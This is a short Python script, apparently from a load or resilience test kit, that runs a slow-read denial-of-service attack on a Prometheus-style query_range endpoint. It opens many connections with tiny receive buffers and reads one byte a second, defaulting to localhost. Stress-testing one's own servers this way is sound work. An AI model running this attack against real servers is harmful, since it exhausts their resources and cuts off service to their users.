#!/usr/bin/env -S python3 -B
# SPDX-License-Identifier: Apache-2.0
"""Clients that ask for much and take nothing, or next to nothing, of the answers."""
import argparse
import socket
import time
import urllib.parse

from half_open import address_of

# Without any data: 11,000 steps of 26 series.
LARGE = "/api/v1/query_range?" + urllib.parse.urlencode({
    "query": " or ".join(f'label_replace(vector(1/3), "l", "{i}", "", "")' for i in range(26)),
    "start": 0, "end": 11000, "step": 1})


def ask(address, path=LARGE):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    s.settimeout(10)
    s.connect(address)
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode())
    return s


def attack(url, seconds, connections=60, path=LARGE):
    """Keeps that many answers waiting; half of the clients take a byte a second. How many answers were asked for."""
    address, end, asked, open_ones = address_of(url), time.monotonic() + seconds, 0, []
    while time.monotonic() < end:
        try:
            while len(open_ones) < connections:
                open_ones.append(ask(address, path))
                asked += 1
        except OSError:
            pass
        still = []
        for i, s in enumerate(open_ones):
            try:
                s.setblocking(False)
                if s.recv(1 if i % 2 else 0, 0 if i % 2 else socket.MSG_PEEK) == b"" and i % 2:
                    raise OSError("the server ended it")
                still.append(s)
            except BlockingIOError:
                still.append(s)
            except OSError:
                s.close()
        open_ones = still
        time.sleep(min(1, max(0, end - time.monotonic())))
    for s in open_ones:
        s.close()
    return asked


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--url", default="http://127.0.0.1:7070")
    p.add_argument("--seconds", type=float, default=60)
    args = p.parse_args()
    print(attack(args.url, args.seconds), "answers were asked for")


if __name__ == "__main__":
    main()
